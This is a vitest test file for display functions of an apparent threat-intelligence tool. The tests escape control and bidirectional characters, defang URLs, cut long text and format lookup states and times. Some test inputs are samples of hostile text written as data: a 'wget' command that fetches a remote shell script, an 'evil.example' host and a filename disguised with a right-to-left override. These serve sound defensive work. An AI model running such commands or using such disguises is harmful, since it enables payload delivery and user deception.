import { expect, test } from 'vitest';
import { ageText, factLines, lengthText, shown, sinceText, stateText, timeText } from './display.ts';
import type { Knowledge } from './knowledge.ts';

test.each([
  ['plain ü 漢', 'plain ü 漢'],
  ['a\u001b[31mb\r\n\t\0\u007f', 'a[ESC][31mb[CR][LF][TAB][NUL][DEL]'],
  ['x\u202egnp.exe', 'x[U+202E]gnp.exe'],
  ['\u009b\u200b\u2028\ud800\u{e0041}', '[U+009B][U+200B][U+2028][U+D800][U+E0041]'],
  ['wget http://203.0.113.9/a.sh; ls', 'wget http[://]203[.]0[.]113[.]9/a.sh; ls'],
  ['FTP://u:p@a.example:21/x.y', 'FTP[://]u:p@a[.]example:21/x.y'],
  ['x_http://a.example', 'x_http[://]a[.]example'],
  ['www.evil.example', 'www[.]evil.example'],
  [`z${'\u0301'.repeat(99)}`, `z${'\u0301'.repeat(3)}…`],
])('%j is shown as %j', (text, expected) => {
  expect(shown(text)).toBe(expected);
  expect(shown(expected)).toBe(expected);
});

test('a long text is cut', () => {
  expect(shown('x'.repeat(1_000_000))).toBe(`${'x'.repeat(4096)} … (1000000 characters)`);
});

test('facts are lines', () => {
  const facts = {
    first_submission_date: 1684135689,
    malicious: 39,
    nothing: null,
    empty: '',
    client: { types: ['DESKTOP', 'MOBILE'], behaviors: [], concentration: { place: { city: 'Rome' } } },
    tunnels: [{ type: 'VPN', anonymous: true }],
  };
  expect(factLines(facts)).toEqual([
    ['first submission date', '2023-05-15 07:28:09 UTC'],
    ['malicious', '39'],
    ['client types', 'DESKTOP, MOBILE'],
    ['client concentration place city', 'Rome'],
    ['tunnels', 'type VPN anonymous true'],
  ]);
});

test('facts are bounded', () => {
  const many = Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`n${n}`, 'x'.repeat(10_000)]));
  const lines = factLines(many);
  expect(lines.length).toBe(40);
  expect(lines.join('').length).toBeLessThan(40 * 500);
  let deep: Knowledge['facts'] = { x: 1 };
  for (let n = 0; n < 100; n++) deep = { deep };
  expect(factLines(deep).length).toBe(1);
});

test.each([
  ['hit', '', 3 * 3_600_000, 'known, 3 h ago'],
  ['miss', '', 2 * 86_400_000, 'unknown to it, 2 d ago'],
  ['hit', '', 59_000, 'known, just now'],
  ['skipped', 'a private address', undefined, 'not asked: a private address'],
  ['limited', 'until tomorrow', undefined, 'not asked yet: until tomorrow'],
  ['error', 'no answer in 15 s', 5, 'error: no answer in 15 s'],
  ['not asked', '', undefined, 'not asked'],
] satisfies [Knowledge['state'], string, number | undefined, string][])('%s, %s: %s', (state, message, age, text) => {
  const ageMs = age === undefined ? {} : { ageMs: age };
  const knowledge = { analyzer: 'isc', observable: { kind: 'ip', value: '' }, state, message, facts: {} } as const;
  expect(stateText({ ...knowledge, ...ageMs })).toBe(text);
});

test('times and lengths', () => {
  expect(timeText(0)).toBe('1970-01-01 00:00:00 UTC');
  expect(timeText(Number.NaN)).toBe('no time');
  expect([0.2, 59.94, 61, 3599.6, 11_220].map(lengthText)).toEqual([
    '0.2 s',
    '59.9 s',
    '1 min 1 s',
    '1 h 0 min',
    '3 h 7 min',
  ]);
  expect([0, 1234, 61_000].map(sinceText)).toEqual(['+0.00 s', '+1.23 s', '+1 min 1 s']);
  expect(ageText(120_000)).toBe('2 min ago');
});
